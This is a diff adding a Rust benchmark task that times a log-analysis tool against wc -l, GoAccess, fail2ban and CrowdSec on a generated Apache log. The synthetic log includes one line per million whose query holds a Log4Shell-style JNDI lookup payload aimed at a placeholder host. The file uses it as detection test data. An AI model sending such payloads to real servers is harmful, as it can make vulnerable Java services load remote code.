@@ -1,0 +1,178 @@
+//! `cargo xtask bench watch`: what reading logs costs, beside `wc -l`, GoAccess, fail2ban and
+//! CrowdSec, in turns on the same bytes.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use super::cost::{Turns, line, measure};
+use crate::process;
+
+/// Bytes of the large log, and of the one for slow programs.
+const LOG_BYTES: usize = 1 << 30;
+const QUICK_BYTES: usize = 128 << 20;
+const SMALL_BYTES: usize = 1 << 20;
+
+/// Rounds of the comparison.
+const ROUNDS: usize = 3;
+
+/// Runs every comparison; programs that are not there are said, not left out silently.
+///
+/// # Errors
+/// When the log cannot be written or relight cannot be measured, or a goal is missed.
+pub(crate) fn run(words: &[&str]) -> Result<(), String> {
+    let (mut bytes, mut program) = (LOG_BYTES, None);
+    let mut words = words.iter();
+    while let Some(word) = words.next() {
+        match *word {
+            "--quick" => bytes = QUICK_BYTES,
+            "--program" => program = words.next().map(PathBuf::from),
+            _ => return Err("bench watch [--quick] [--program FILE]".to_owned()),
+        }
+    }
+    let root = crate::tree::root();
+    let program = match program {
+        Some(program) => program,
+        None => super::release_binary(&root)?,
+    };
+    let folder = std::env::temp_dir().join(format!("relight-bench-watch-{}", std::process::id()));
+    fs::create_dir_all(&folder).map_err(|error| format!("{}: {error}", folder.display()))?;
+    let outcome = compare(&folder, &program, bytes);
+    // What is left behind of a failed run does no harm.
+    let _ = fs::remove_dir_all(&folder);
+    outcome
+}
+
+/// One figure and whether it meets its goal.
+struct Figure {
+    text: String,
+    met: bool,
+}
+
+fn compare(folder: &Path, program: &Path, bytes: usize) -> Result<(), String> {
+    let large = folder.join("large.log");
+    write_log(&large, bytes)?;
+    let small = folder.join("small.log");
+    write_log(&small, SMALL_BYTES)?;
+    let program = program.display().to_string();
+    register(folder, &program)?;
+    let mut figures = scan(folder, &program, &large, bytes)?;
+    figures.extend(peers(folder, &program, &large, &small)?);
+    let mut missed = 0;
+    for figure in figures {
+        println!("{} {}", if figure.met { "met   " } else { "MISSED" }, figure.text);
+        missed += usize::from(!figure.met);
+    }
+    if missed == 0 { Ok(()) } else { Err(format!("{missed} goals are missed")) }
+}
+
+/// A site for the log, in a data folder that each run starts from.
+fn register(folder: &Path, program: &str) -> Result<(), String> {
+    let sites = "slug,name_fr,name_en,origin,organisation,sector,criticality,edge,public\n\
+                 a,a,a,https://a.example,org,health,3,east,yes\n";
+    let path = folder.join("sites.csv");
+    fs::write(&path, sites).map_err(|error| format!("{}: {error}", path.display()))?;
+    let data = folder.join("start").display().to_string();
+    let import = ["--data", &data, "sites", "import", "sites.csv"];
+    process::output(folder, program, &import).map(drop)
+}
+
+/// The command that reads a log into a data folder of its own.
+fn ingest(program: &str, log: &Path) -> Vec<String> {
+    let script = "rm -rf data && cp -r start data && \"$1\" --data data -q watch ingest \"$2\" \
+                  --org org --site a > /dev/null";
+    line(&["sh", "-c", script, "sh", program, &log.display().to_string()])
+}
+
+fn scan(folder: &Path, program: &str, log: &Path, bytes: usize) -> Result<Vec<Figure>, String> {
+    let name = log.display().to_string();
+    let words = line(&["wc", "-l", &name]);
+    let scan = line(&[program, "-q", "watch", "decode", "--attempts", &name]);
+    let commands = [(words, 1), (scan, 1), (ingest(program, log), 1)];
+    let turns = Turns::run(folder, &commands, ROUNDS)?;
+    let ratio = turns.cpu(1) / turns.cpu(0);
+    #[expect(clippy::cast_precision_loss, reason = "a figure for people")]
+    let rate = bytes as f64 / turns.cpu(2) / 1e9;
+    let attempt = format!(
+        "attempt scan: {:.2} CPU s, {ratio:.2} times wc -l ({:.2}); at most 2.0",
+        turns.cpu(1),
+        turns.cpu(0)
+    );
+    let ingest = format!(
+        "full ingest: {:.2} CPU s, {rate:.2} GB a CPU second, {:.0} MiB; at least 1",
+        turns.cpu(2),
+        turns.peak_mib(2)
+    );
+    Ok(vec![Figure { text: attempt, met: ratio <= 2.0 }, Figure { text: ingest, met: rate >= 1.0 }])
+}
+
+fn peers(folder: &Path, program: &str, large: &Path, small: &Path) -> Result<Vec<Figure>, String> {
+    let mut figures = Vec::new();
+    if process::is_there("goaccess") {
+        let name = large.display().to_string();
+        let peer = line(&["goaccess", &name, "--log-format=COMBINED", "-o", "report.json"]);
+        let (ours, _) = measure(folder, &ingest(program, large), 600)?;
+        let (theirs, _) = measure(folder, &peer, 600)?;
+        let ratio = theirs.cpu / ours.cpu;
+        let text = format!("GoAccess: {:.1} CPU s, {ratio:.0} times ours; at least 45", theirs.cpu);
+        figures.push(Figure { text, met: ratio >= 45.0 });
+    } else {
+        println!("       GoAccess is not here: apt-get install goaccess");
+    }
+    slow_peers(folder, small)?;
+    Ok(figures)
+}
+
+/// Rates beside ours, without a goal: on a small log, because they are slow.
+fn slow_peers(folder: &Path, small: &Path) -> Result<(), String> {
+    let name = small.display().to_string();
+    let fail2ban = line(&["fail2ban-regex", &name, "apache-noscript"]);
+    let url = format!("file://{name}");
+    let crowdsec = line(&["crowdsec", "-dsn", &url, "-type", "apache2", "-no-api"]);
+    for (package, peer) in [("fail2ban", fail2ban), ("crowdsec", crowdsec)] {
+        if !process::is_there(&peer[0]) {
+            println!("       {package} is not here: apt-get install {package}");
+            continue;
+        }
+        let (cost, run) = measure(folder, &peer, 600)?;
+        let lines = fs::read(small).map(|bytes| bytes.iter().filter(|it| **it == b'\n').count());
+        #[expect(clippy::cast_precision_loss, reason = "a figure for people")]
+        let rate = lines.unwrap_or(0) as f64 / cost.cpu;
+        println!("       {package}: {rate:.0} lines a CPU second ({})", run.status());
+    }
+    Ok(())
+}
+
+/// Lines of ordinary visits, a few misses and a payload in a million.
+fn write_log(path: &Path, bytes: usize) -> Result<(), String> {
+    const AGENTS: [&str; 3] = [
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/96.0.4664.93 Safari/537.36",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "curl/7.74.0",
+    ];
+    let mut out = Vec::with_capacity(bytes + 512);
+    let mut number: u64 = 0;
+    while out.len() < bytes {
+        number += 1;
+        let mixed = number.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 32;
+        let (a, b) = (mixed >> 8 & 0xff, mixed & 0xff);
+        let (hour, minute, second) = (number / 3600 % 24, number / 60 % 60, number % 60);
+        let status = if mixed.is_multiple_of(20) { 404 } else { 200 };
+        let query =
+            if number % 1_000_000 == 999_999 { "${jndi:ldap://x.example/a}" } else { "p=1" };
+        let agent = AGENTS[usize::try_from(mixed % 3).unwrap_or(0)];
+        out.extend_from_slice(
+            format!(
+                "10.{a}.{b}.{} - - [10/Dec/2021:{hour:02}:{minute:02}:{second:02} +0000] \"GET \
+                 /articles/{}/page-{}.html?{query} HTTP/1.1\" {status} {} \
+                 \"https://a.example/articles/{}/\" \"{agent}\"\n",
+                number % 40,
+                number % 17,
+                mixed % 97,
+                mixed % 20_000,
+                number % 17
+            )
+            .as_bytes(),
+        );
+    }
+    fs::write(path, out).map_err(|error| format!("{}: {error}", path.display()))
+}
